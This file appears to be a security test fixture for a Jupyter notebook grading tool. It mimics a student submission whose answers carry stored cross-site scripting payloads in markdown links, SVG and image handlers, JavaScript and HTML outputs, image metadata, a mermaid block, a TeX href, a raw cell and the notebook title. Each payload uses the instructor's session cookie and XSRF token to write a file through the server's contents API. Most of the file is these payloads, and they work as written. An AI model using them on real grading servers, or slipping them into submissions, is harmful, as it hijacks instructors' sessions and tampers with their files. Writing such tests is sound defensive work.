"""Correct answers, plus HTML and script in every place a student can write or print them:
both written answers (a link whose entity nbconvert decodes a second time, an SVG), two added
markdown cells (javascript: links, a reference link decoded twice, a mermaid block, a TeX
``\\href``, an image of a missing attachment, which made nbconvert fail for the whole page),
outputs (HTML, JavaScript, SVG, markdown with a twice-decoded link, image metadata), a raw HTML
cell and the notebook's title.

The script leaves a trace where it runs and tries what the formgrader hole allowed: a PUT
to the Jupyter server's contents API with the instructor's session (cookie and XSRF token)."""

EXPECTED = {}


# %% t12_1_1_justification
# All true but the last. [my derivation](<javascript&amp;#58;(window.top.__pwned = (window.top.__pwned || []).concat(['justification'])),fetch('/api/contents/PWNED-justification.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})>)


# %% t12_2a_count_parameters_solution
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML('<b>bold</b><img src=x onerror="(window.top.__pwned = (window.top.__pwned || []).concat([\'html_output\'])),fetch(\'/api/contents/PWNED-html_output.txt\', {method: \'PUT\', credentials: \'include\', headers: {\'Content-Type\': \'application/json\', \'X-XSRFToken\': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || \'\'}, body: JSON.stringify({type: \'file\', format: \'text\', content: \'pwned\'})})">'))
display(Javascript("(window.top.__pwned = (window.top.__pwned || []).concat(['js_output'])),fetch('/api/contents/PWNED-js_output.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="(window.top.__pwned = (window.top.__pwned || []).concat([\'svg\'])),fetch(\'/api/contents/PWNED-svg.txt\', {method: \'PUT\', credentials: \'include\', headers: {\'Content-Type\': \'application/json\', \'X-XSRFToken\': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || \'\'}, body: JSON.stringify({type: \'file\', format: \'text\', content: \'pwned\'})})"/>'))
display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {'width': "1 onerror=(window.top.__pwned = (window.top.__pwned || []).concat(['png_width'])),fetch('/api/contents/PWNED-png_width.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})"}})
display(Markdown("[my derivation](<javascript&amp;#58;" + "(window.top.__pwned = (window.top.__pwned || []).concat(['markdown_output'])),fetch('/api/contents/PWNED-markdown_output.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})" + ">)"))
def count_parameters(layer_sizes):
    return sum(a * b + b for a, b in zip(layer_sizes[:-1], layer_sizes[1:]))


# %% t12_2f_discussion
# It went down. <svg onload="(window.top.__pwned = (window.top.__pwned || []).concat(['discussion'])),fetch('/api/contents/PWNED-discussion.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})"></svg>


# %% append markdown
# [a harmless link](<javascript:(window.top.__pwned = (window.top.__pwned || []).concat(['link'])),fetch('/api/contents/PWNED-link.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})>)
#
# ```mermaid
# </pre><img src=x onerror="(window.top.__pwned = (window.top.__pwned || []).concat(['mermaid'])),fetch('/api/contents/PWNED-mermaid.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})">
# ```


# %% append markdown
# See [my derivation][d] and $\href{javascript:(window.top.__pwned = (window.top.__pwned || []).concat(['tex_href'])),fetch('/api/contents/PWNED-tex_href.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})}{this}$.
#
# [d]: <javascript&amp;#58;(window.top.__pwned = (window.top.__pwned || []).concat(['reference_link'])),fetch('/api/contents/PWNED-reference_link.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})>
#
# ![my figure](attachment:figure.png)


# %% append raw {"raw_mimetype": "text/html"}
# <img src=x onerror="(window.top.__pwned = (window.top.__pwned || []).concat(['raw_cell'])),fetch('/api/contents/PWNED-raw_cell.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})">


# %% notebook-metadata {"title": "</title><img src=x onerror=\"(window.top.__pwned = (window.top.__pwned || []).concat(['title'])),fetch('/api/contents/PWNED-title.txt', {method: 'PUT', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || ''}, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})})\">"}
